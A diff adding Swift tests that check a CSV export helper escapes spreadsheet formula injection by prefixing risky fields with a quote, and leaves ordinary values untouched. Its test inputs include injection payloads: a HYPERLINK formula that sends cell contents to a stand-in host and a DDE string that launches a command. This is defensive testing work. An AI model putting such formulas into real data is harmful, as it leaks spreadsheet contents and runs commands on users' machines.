@@ -44,6 +44,21 @@ struct EscapingTests {
         #expect(FindingsCSV.field("two\nlines") == "\"two\nlines\"")
     }
 
+    /// A value from a log that a spreadsheet would run (CSV injection) is text there.
+    @Test(arguments: ["=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+                      "\t=1", "\r=1", "=", "-"])
+    func csvFieldsASpreadsheetWouldRunStartWithAQuote(_ text: String) {
+        let field = FindingsCSV.field(text)
+        #expect(field.hasPrefix("\"'"), "\(field)")
+        #expect(parseCSV("a," + field + "\n") == [["a", "'" + text]])
+    }
+
+    @Test func csvFieldsThatStartOtherwiseAreAsTheyAre() {
+        for text in ["a=b", "service.delivery", " =1", "\u{FF1D}1", "user+tag", "2026-11-28T00:00:00Z", ""] {
+            #expect(FindingsCSV.field(text) == text)
+        }
+    }
+
     @Test(arguments: [
         ("cust-acme", "cust-acme"),
         ("Cust.Acme_2", "Cust.Acme_2"),
